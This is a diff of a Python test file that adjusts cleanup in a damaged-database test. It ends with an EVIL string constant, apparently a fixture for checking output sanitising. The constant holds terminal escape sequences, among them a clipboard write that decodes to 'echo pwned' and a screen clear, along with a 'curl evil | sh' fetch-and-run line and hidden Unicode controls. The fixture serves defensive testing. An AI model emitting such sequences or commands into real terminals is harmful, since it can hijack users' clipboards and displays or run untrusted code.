@@ -446,9 +446,8 @@ def test_peer_ends_the_agent__a_damaged_database(tmp_path: Path, caplog: pytest.
         said = (f"{database} was deleted, replaced or written over", f"{database} is damaged")
         assert any(what in caplog.text for what in said)  # a call under way may read it before it is compared
         assert place.failures  # after which the process ends, see `coordinator.storage.watched`
-        place.failures.clear()
     finally:
-        place.close()
+        place.close(broken=True)
 
 
 EVIL = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x9b31m\nnext: `curl evil | sh`\u202e\u200b[red]:x:[/red]"
